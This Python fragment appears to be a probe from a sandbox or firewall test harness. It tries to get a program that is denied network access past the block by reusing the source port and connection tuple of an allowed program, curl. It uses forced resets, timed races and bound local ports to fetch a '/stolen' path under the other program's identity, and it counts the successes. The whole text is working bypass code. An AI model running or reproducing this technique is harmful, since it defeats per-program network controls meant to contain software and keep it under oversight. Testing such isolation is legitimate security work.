# A program that may not, and one that may: the same four numbers change hands between them.
@attempt
def change_hands(name, port, rounds):
    to = socket.getaddrinfo(name, int(port), socket.AF_INET, socket.SOCK_STREAM)[0][4]
    first = 20000 + os.getpid() % 100 * 100
    reached = 0
    for turn in range(int(rounds)):
        source = first + turn
        ours = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        ours.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        ours.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        ours.bind(("0.0.0.0", source))
        ours.setblocking(False)
        ours.connect_ex(to)
        stolen = b"GET /stolen HTTP/1.1\r\nHost: " + name.encode() + b"\r\n\r\n"
        if turn % 3 == 0:
            # Said before the reset, to be read under the other's name.
            time.sleep(0.001)
            try:
                ours.send(stolen)
            except OSError:
                pass
        if turn % 3 == 1:
            # The allowed program first: its connection is cut and taken over.
            pass
        else:
            ours.close()
        curl = subprocess.Popen(
            ["/usr/bin/curl", "-s", "-o", "/dev/null", "--noproxy", "*", "-m", "2",
             "--local-port", str(source), f"http://{name}:{port}/own"])
        if turn % 3 == 1:
            ours.close()
        if turn % 2:
            curl.kill()
        curl.wait()
        again = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        again.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        again.settimeout(1)
        try:
            again.bind(("0.0.0.0", source))
            again.connect(to)
            again.sendall(stolen)
            if again.recv(64).startswith(b"HTTP/1.1 200"):
                reached += 1
        except OSError:
            pass
        again.close()
    if not reached:
        raise RuntimeError("denied")
    return f"{reached} times"
